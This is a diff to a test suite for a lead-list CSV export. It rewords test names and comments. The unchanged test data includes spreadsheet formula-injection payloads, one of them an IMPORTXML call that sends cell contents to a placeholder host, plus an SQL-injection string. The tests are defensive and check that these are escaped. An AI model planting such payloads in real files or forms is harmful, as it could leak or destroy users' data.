@@ -58,7 +58,7 @@ describe('the file', () => {
     expect(csvOf()).toBe(HEADER);
   });
 
-  test('leaves missing values and an unreadable time empty', () => {
+  test('leaves cells empty for missing values and for an unreadable time', () => {
     const bare = lead({ id: '1', name: '', phone: '', email: '', service: '', source: '', message: '' });
     expect(csvOf({ ...bare, createdAt: Number.NaN })).toBe(`${HEADER}"","","","","","","","1"\r\n`);
   });
@@ -87,7 +87,7 @@ describe('the file', () => {
 });
 
 describe('hostile text', () => {
-  /** Strings of the list that a spreadsheet may evaluate or round, such as phone numbers. */
+  /** Hostile strings that a spreadsheet may evaluate or round, such as phone numbers. */
   const formulas = new Set([
     '=HYPERLINK("http://x","y")',
     '=IMPORTXML("http://x/?"&A1,"//a")',
@@ -101,14 +101,14 @@ describe('hostile text', () => {
     '＝1',
     '007',
   ]);
-  /** Strings of the list with a formula after a separator, and how each is written. */
+  /** Hostile strings with a formula after a separator, and how the file contains each. */
   const innerFormulas = new Map([
     ['\r=1', "'\n'=1"],
     ['\n=1', "'\n'=1"],
     ['"; drop table lead_form;--', '"; drop table lead_form;\'--'],
   ]);
 
-  test('every string of the list is written as text, and formulas get a leading apostrophe', () => {
+  test('every hostile string is written as text, and formulas get a leading apostrophe', () => {
     const leads = HOSTILE.map(({ given }, index) =>
       lead({
         id: String(index),
@@ -167,7 +167,7 @@ describe('hostile text', () => {
     expect(cellsOf(csvOf(lead({ id: '1', name: given })))[1]?.[0]).toBe(written);
   });
 
-  test.each([',', ';', '\t'])('split at %j, whether or not quotes are respected, no cell begins like a formula', (separator) => {
+  test.each([',', ';', '\t'])('if lines are split at %j, with or without regard to quotes, no cell begins like a formula', (separator) => {
     const signs = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1', '=HYPERLINK("http://x","y")'];
     const before = ['', 'x', ';', ',', '\t', '\n', '"'].flatMap((a) => ['', ' ', '"', '""', '\n', '\u200b', ';"'].map((b) => a + b));
     const leads = signs.flatMap((sign, at) =>
@@ -222,7 +222,7 @@ describe('the file name', () => {
     expect(csvFileName({ ...NO_FILTER, ...filter }, now)).toBe(name);
   });
 
-  test.each(HOSTILE.map(({ given }) => given))('%j gives a name that every operating system accepts', (source) => {
+  test.each(HOSTILE.map(({ given }) => given))('the source %j results in a file name that every operating system accepts', (source) => {
     const name = csvFileName({ ...NO_FILTER, source, service: source, search: source }, now);
     expect(name).toMatch(/^leads-2026-11-21-[\p{L}\p{N}_][\p{L}\p{N}_-]*\.csv$/u);
     expect(new TextEncoder().encode(name).length).toBeLessThan(256);
